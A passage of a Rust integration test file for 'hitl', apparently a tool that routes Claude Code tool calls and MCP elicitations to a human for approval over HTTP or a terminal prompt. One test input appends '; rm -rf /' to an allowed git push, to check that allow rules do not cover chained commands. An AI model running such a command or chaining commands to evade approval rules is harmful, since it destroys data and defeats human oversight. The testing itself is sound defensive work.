        "{listed:?}"
    );

    // The same call again: allowed at once, listener or not.
    drop(listener);
    let got = hook(&p, "pre-tool-use", &push).expect("a decision");
    let (verdict, reason) = decision(&got);
    assert_eq!(verdict, "allow");
    assert!(
        reason.contains("Allowed by the hitl rule Bash(git push --force origin main)"),
        "{reason}"
    );
    // Anything the rule does not cover is still asked (here: denied, no listener).
    for other in [
        "git push --force origin main; rm -rf /",
        "git push --force origin dev",
    ] {
        let got = hook(
            &p,
            "pre-tool-use",
            &pre_tool_use(&p, "Bash", json!({ "command": other })),
        )
        .expect("a decision");
        assert_eq!(decision(&got).0, "ask", "{other}: {got}");
    }

    // `hitl rules remove` takes it out; the call is asked again.
    let out = p.run(&["rules", "remove", "1"]);
    assert!(out.status.success(), "{out:?}");
    let got = hook(&p, "pre-tool-use", &push).expect("a decision");
    assert_eq!(decision(&got).0, "ask", "{got}");
}

#[test]
fn always_allow_is_offered_for_files_and_taken_over_http_and_at_the_prompt() {
    let p = Project::new();
    let mut listener = p.listen_with_stdin(&["--http", "127.0.0.1:0"]);
    let mut stdin = listener.child.stdin.take().unwrap();
    let write = |file: &str| {
        pre_tool_use(
            &p,
            "Write",
            json!({ "file_path": p.dir.join(file), "content": "x" }),
        )
    };

    // At the terminal prompt: "always".
    let child = spawn_hook(&p, "pre-tool-use", &write(".env"));
    listener.wait_stdout(
        "\"always\" to approve and allow Edit(.env)",
        Duration::from_secs(20),
    );
    writeln!(stdin, "always fine for now").unwrap();
    let got = finish(wait_output(child, Duration::from_secs(30))).expect("a decision");
    assert_eq!(decision(&got).0, "allow", "{got}");
    assert!(decision(&got).1.contains("fine for now"), "{got}");

    // Over HTTP: a rule of the human's own.
    let child = spawn_hook(&p, "pre-tool-use", &write("config/settings.json"));
    let q = hook_question(&p);
    assert_eq!(
        q["context"]["always_allow"], "Edit(config/settings.json)",
        "{q:#}"
    );
    let out = reqwest::blocking::Client::new()
        .post(format!(
            "{}/api/v1/requests/{}/respond",
            p.http_url(),
            q["id"].as_str().unwrap()
        ))
        .bearer_auth(p.token())
        .json(&json!({ "approved": true, "always": "Edit(config/*.json)" }))
        .send()
        .unwrap();
    assert!(out.status().is_success(), "{:?}", out.text());
    let got = finish(wait_output(child, Duration::from_secs(30))).expect("a decision");
    assert_eq!(decision(&got).0, "allow", "{got}");

    let rules: Value = serde_json::from_slice(&p.run(&["rules", "--json"]).stdout).unwrap();
    let listed: Vec<&str> = rules["rules"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["rule"].as_str().unwrap())
        .collect();
    assert_eq!(listed, ["Edit(.env)", "Edit(config/*.json)"]);
    for file in [".env", "config/package.json"] {
        let got = hook(&p, "pre-tool-use", &write(file)).expect("a decision");
        assert!(
            decision(&got).1.starts_with("Allowed by the hitl rule"),
            "{file}: {got}"
        );
    }
    // `.env` elsewhere is another file: asked.
    let child = spawn_hook(&p, "pre-tool-use", &write("sub/.env"));
    let q = hook_question(&p);
    assert!(q["content"].as_str().unwrap().contains("sub/.env"), "{q:#}");
    let got = answer_and_read(&p, child, &q, &["--deny"]);
    assert_eq!(decision(&got).0, "deny");
    drop(stdin);
}

#[test]
fn always_allow_on_a_permission_request_hands_claude_codes_own_suggestion_back() {
    let p = Project::new();
    let _listener = p.listen(&["--attended", "--http", "127.0.0.1:0"]);
    let suggestion = json!([{ "type": "addRules",
        "rules": [{ "toolName": "Bash", "ruleContent": "npm test:*" }],
        "behavior": "allow", "destination": "localSettings" }]);
    let mut input = permission_request(&p, "npm test -- --watch=false");
    input["permission_suggestions"] = suggestion.clone();
    let child = spawn_hook(&p, "permission-request", &input);
    let q = hook_question(&p);
    assert_eq!(
        q["context"]["always_allow"], "Bash(npm test:*) in Claude Code's localSettings",
        "{q:#}"
    );
    let got = answer_and_read(&p, child, &q, &["--approve", "--always"]);
    assert_eq!(
        got,
        json!({ "hookSpecificOutput": { "hookEventName": "PermissionRequest",
            "decision": { "behavior": "allow", "updatedPermissions": suggestion } } })
    );
    // Claude Code keeps that rule itself: nothing is added to hitl's.
    let rules: Value = serde_json::from_slice(&p.run(&["rules", "--json"]).stdout).unwrap();
    assert_eq!(rules["rules"], json!([]));

    // Without a suggestion, "always" is refused and the question stays.
    let child = spawn_hook(&p, "permission-request", &permission_request(&p, "make"));
    let q = hook_question(&p);
    let out = p.run(&["answer", q["id"].as_str().unwrap(), "--approve", "--always"]);
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("offers no rule"),
        "{out:?}"
    );
    let got = answer_and_read(&p, child, &q, &["--approve"]);
    assert_eq!(got["hookSpecificOutput"]["decision"]["behavior"], "allow");
}

/// A hook event of session `abc12345…` as Claude Code sends it.
fn event_input(p: &Project, name: &str, extra: Value) -> Value {
    let mut v = json!({
        "session_id": "abc12345-6789-4def-8000-000000000000",
        "transcript_path": "/home/u/.claude/projects/x/abc.jsonl",
        "cwd": p.dir, "hook_event_name": name,
    });
    for (k, x) in extra.as_object().unwrap() {
        v[k] = x.clone();
    }
    v
}

/// The session agent's status, as `hitl agents --json` says it.
fn session_status(p: &Project) -> String {
    let out = p.run(&["agents", "--json"]);
    let list: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
    list.iter()
        .find(|a| a["agent_id"] == "claude-abc12345")
        .map(|a| a["status"].as_str().unwrap().to_string())
        .unwrap_or_else(|| format!("not listed: {list:?}"))
}

#[test]
fn every_hook_event_reaches_the_activity_feed_and_says_what_the_agent_is_doing() {
    let p = Project::new();
    let mut listener = p.listen_with_stdin(&["--http", "127.0.0.1:0"]);
    let _stdin = listener.child.stdin.take().unwrap();
    let run = |event: &str, input: Value| {
        let out = wait_output(
            spawn_hook_as(&p, event, &input, None),
            Duration::from_secs(30),
        );
        assert!(out.status.success(), "{out:?}");
        assert!(out.stdout.is_empty(), "{event}: stdout {out:?}");
    };
    let feed = || -> Vec<Value> {
        let out = reqwest::blocking::Client::new()
            .get(format!("{}/events/recent?limit=50", p.http_url()))
            .bearer_auth(p.token())
            .send()
            .unwrap();
        let mut all: Vec<Value> = out.json().unwrap();
        all.reverse(); // oldest first
        all
    };
    let wait_status = |want: &str| {
        let mut last = String::new();
        crate::support::eventually(&format!("status {want}"), Duration::from_secs(10), || {
            last = session_status(&p);
            last == want
        });
    };

    run(
        "session-start",
        event_input(&p, "SessionStart", json!({ "source": "startup" })),
    );
    wait_status("active");
    run(
        "user-prompt-submit",
        event_input(&p, "UserPromptSubmit", json!({ "prompt": "fix the tests" })),
    );
    wait_status("working");
    // A tool call no rule names: no opinion, noted with it; its big input cut to size.
    run(
        "pre-tool-use",
        event_input(
            &p,
            "PreToolUse",
            json!({ "tool_name": "Write", "tool_use_id": "t1",
                    "tool_input": { "file_path": p.dir.join("src/a.rs"), "content": "x".repeat(200_000) } }),
        ),
    );
    run(
        "notification",
        event_input(
            &p,
            "Notification",
            json!({ "message": "Claude needs your permission to use Bash", "notification_type": "permission_prompt" }),
        ),
    );
    listener.wait_stdout("(attention) [Claude abc12345 (", Duration::from_secs(10));
    listener.wait_stdout(
        "] Claude needs your permission to use Bash\n",
        Duration::from_secs(10),
    );
    run(
        "stop",
        event_input(&p, "Stop", json!({ "stop_hook_active": false })),
    );
    wait_status("idle");
    run(
        "session-end",
        event_input(&p, "SessionEnd", json!({ "reason": "logout" })),
    );
    wait_status("gone");

    let mut events = Vec::new();
    crate::support::eventually("six events in the feed", Duration::from_secs(10), || {
        events = feed();
        events.len() >= 6
    });
    let types: Vec<&str> = events
        .iter()
        .map(|e| e["hook_event_type"].as_str().unwrap())
        .collect();
    assert_eq!(
        types,
        [
            "SessionStart",
            "UserPromptSubmit",
            "PreToolUse",
            "Notification",
            "Stop",
            "SessionEnd"
        ]
    );
    let project = p.dir.file_name().unwrap().to_str().unwrap();
    for e in &events {
        assert_eq!(e["source_app"], project, "{e}");
        assert_eq!(e["session_id"], "abc12345-6789-4def-8000-000000000000");
        assert_eq!(e["agent_id"], "claude-abc12345", "{e}");
        assert!(e["payload"].get("transcript_path").is_none(), "{e}");
    }
    let tool = &events[2];
    assert_eq!(tool["decision"], "none", "{tool}");
    let content = tool["payload"]["tool_input"]["content"].as_str().unwrap();
    assert!(
        content.len() < 1_000 && content.ends_with("(200000 bytes)"),
        "{content}"
    );
    // Taken, every one: nothing is left in the folder.
    assert_eq!(
        std::fs::read_dir(p.helpers().join("activity"))
            .unwrap()
            .count(),
        0
    );
}

#[test]
fn without_a_listener_the_hook_notes_nothing() {
    let p = Project::new();
    let out = wait_output(
        spawn_hook_as(&p, "stop", &event_input(&p, "Stop", json!({})), None),
        Duration::from_secs(30),
    );
    assert!(out.status.success() && out.stdout.is_empty(), "{out:?}");
    let left = std::fs::read_dir(p.helpers().join("activity"))
        .map(|d| d.count())
        .unwrap_or(0);
    assert_eq!(left, 0);
}

#[test]
fn an_mcp_servers_elicitation_is_answered_as_a_form_from_any_ui() {
    let p = Project::new();
    // No listener: Claude Code's own dialog asks (nothing on stdout).
    let form = event_input(
        &p,
        "Elicitation",
        json!({ "mcp_server_name": "deploy", "message": "Where to?", "mode": "form",
            "requested_schema": { "type": "object", "required": ["env", "replicas"], "properties": {
                "env": { "type": "string", "title": "Environment",
                         "oneOf": [{ "const": "prod", "title": "Production" }, { "const": "dev", "title": "Development" }] },
                "replicas": { "type": "integer" },
                "notify": { "type": "boolean", "title": "Tell the team?" } } } }),
    );
    assert_eq!(hook(&p, "elicitation", &form), None);

    let _listener = p.listen(&["--attended", "--http", "127.0.0.1:0"]);
    let child = spawn_hook(&p, "elicitation", &form);
    let q = hook_question(&p);
    assert_eq!(q["type"], "questions", "{q:#}");
    assert_eq!(q["content"], "The MCP server deploy asks: Where to?");
    assert_eq!(
        q["questions"][0]["options"][0]["label"], "Production",
        "{q:#}"
    );
    // What the server's schema would refuse is refused by every UI, saying why, and
    // nothing is sent: own text for a choice, words for a whole number.
    let id = q["id"].as_str().unwrap();
    for (answers, why) in [
        (["Staging", "3", "-"], "not one of its options"),
        (["Development", "three", "-"], "not a whole number"),
        (["Development", "3", "maybe"], "not one of its options"),
    ] {
        let mut args = vec!["answer", id];
        args.extend(answers);
        let out = p.run(&args);
        assert!(!out.status.success(), "{answers:?}: {out:?}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains(why), "{answers:?}: {err}");
    }
    let over_http = reqwest::blocking::Client::new()
        .post(format!("{}/api/v1/requests/{id}/respond", p.http_url()))
        .bearer_auth(p.token())
        .json(&json!({ "answers": { "Environment": "Development",
            "replicas": "many", "Tell the team? (optional)": "" } }))
        .send()
        .unwrap();
    let status = over_http.status();
    let body = over_http.text().unwrap();
    assert!(status.is_client_error(), "{status} {body}");
    assert!(body.contains("not a whole number"), "{body}");
    assert_eq!(p.pending().len(), 1, "still waiting for a good answer");
    let got = answer_and_read(&p, child, &q, &["Development", "3", "-"]);
    assert_eq!(
        got,
        json!({ "hookSpecificOutput": { "hookEventName": "Elicitation", "action": "accept",
            "content": { "env": "dev", "replicas": 3 } } })
    );

    // Cancelled in hitl: declined.
    let child = spawn_hook(&p, "elicitation", &form);
    let q = hook_question(&p);
    let out = p.run(&["cancel", q["id"].as_str().unwrap(), "--reason", "not now"]);
    assert!(out.status.success(), "{out:?}");
    let got = finish(wait_output(child, Duration::from_secs(30))).unwrap();
    assert_eq!(got["hookSpecificOutput"]["action"], "decline", "{got}");

    // A page to open: an approval; approved is accept, without content.
    let url = event_input(
        &p,
        "Elicitation",
        json!({ "mcp_server_name": "gh", "mode": "url", "url": "https://github.com/login/device",
                "message": "Sign in to GitHub", "elicitation_id": "e1" }),
    );
    let child = spawn_hook(&p, "elicitation", &url);
    let q = hook_question(&p);
    assert_eq!(q["type"], "approval", "{q:#}");
    assert!(
        q["content"]
            .as_str()
            .unwrap()
            .contains("https://github.com/login/device")
    );
    let got = answer_and_read(&p, child, &q, &["--approve"]);
    assert_eq!(
        got,
        json!({ "hookSpecificOutput": { "hookEventName": "Elicitation", "action": "accept" } })
    );
}

#[test]
fn a_protected_edit_blocks_until_a_human_approves_over_http() {
    let p = Project::new();
    let _listener = p.listen(&["--attended", "--http", "127.0.0.1:0"]);
    let edit = pre_tool_use(
        &p,
        "Edit",
        json!({ "file_path": p.dir.join("package.json"), "old_string": "\"1.0.0\"", "new_string": "\"2.0.0\"" }),
    );
    let mut child = spawn_hook(&p, "pre-tool-use", &edit);
    let q = hook_question(&p);
    assert!(
        q["content"].as_str().unwrap().contains("Edit package.json"),
        "{q:#}"
    );
    // Blocked while nobody answers.
    std::thread::sleep(Duration::from_millis(300));
    assert!(
        child.try_wait().unwrap().is_none(),
        "the hook waits for the human"
    );
    let out = reqwest::blocking::Client::new()
        .post(format!(
            "{}/api/v1/requests/{}/respond",
            p.http_url(),
            q["id"].as_str().unwrap()
        ))
        .bearer_auth(p.token())
        .json(&json!({ "approved": true, "comment": "release", "respondedBy": "alice" }))
        .send()
        .unwrap();
    assert!(out.status().is_success(), "{:?}", out.text());
    let got = finish(wait_output(child, Duration::from_secs(30))).expect("a decision");
    let (verdict, reason) = decision(&got);
    assert_eq!(verdict, "allow");
    assert!(reason.contains("release"), "{reason}");
}

#[test]
fn the_request_type_and_timeout_are_chosen_per_tool() {
    let p = Project::new();
    p.project_config("[hook]\ntypes = { Bash = \"permission\" }\ntimeouts = { Bash = 45 }\n");
    let _listener = p.listen(&["--attended", "--http", "127.0.0.1:0"]);
    let child = spawn_hook(
        &p,
        "pre-tool-use",
        &pre_tool_use(&p, "Bash", json!({ "command": "git reset --hard HEAD~3" })),
    );
    let q = hook_question(&p);
    assert_eq!(
        (q["type"].as_str(), q["timeout"].as_u64()),
        (Some("permission"), Some(45)),
        "{q:#}"
    );
    let got = answer_and_read(&p, child, &q, &["--approve"]);
    assert_eq!(decision(&got).0, "allow");
    // A type a tool call cannot be asked as is refused where the policy is checked.
    p.project_config("[hook]\ntypes = { Bash = \"select\" }\n");
    let out = p.run(&["init", "--claude"]);
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("[hook] types"),
        "{out:?}"
    );
}

#[test]
fn the_prompt_shows_a_call_readably_and_answer_says_what_it_sent() {
    let p = Project::new();
    let mut listener = p.listen_with_stdin(&["--no-http"]);
    let _stdin = listener.child.stdin.take().unwrap();
    // A 4.5 KB write of a protected file: its size is shown, never its text.
    let content = "some line of the new file\n".repeat(175);
    let child = spawn_hook(
        &p,
        "pre-tool-use",
        &pre_tool_use(
            &p,
            "Write",
            json!({ "file_path": p.dir.join(".env"), "content": content }),
        ),
    );
    let q = hook_question(&p);
    let id = q["id"].as_str().unwrap();
    listener.wait_stdout("(/cancel to decline)", Duration::from_secs(20));
    let screen = listener.stdout();
    assert!(screen.contains("Write: "), "{screen}");
    assert!(screen.contains("(writes 175 lines)"), "{screen}");
    assert!(screen.contains(&format!("id {}", &id[..12])), "{screen}");
    assert!(!screen.contains("some line"), "no file text: {screen}");
    assert!(!screen.contains("\"tool_input\""), "no raw JSON: {screen}");
    // Answered from elsewhere: `hitl answer` says what it sent.
    let out = p.run(&["answer", id, "--deny", "--comment", "not now"]);
    assert!(out.status.success(), "{out:?}");
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        format!("denied {id} (not now)\n")
    );
    let got = finish(wait_output(child, Duration::from_secs(30))).unwrap();
    assert_eq!(decision(&got).0, "deny");
}
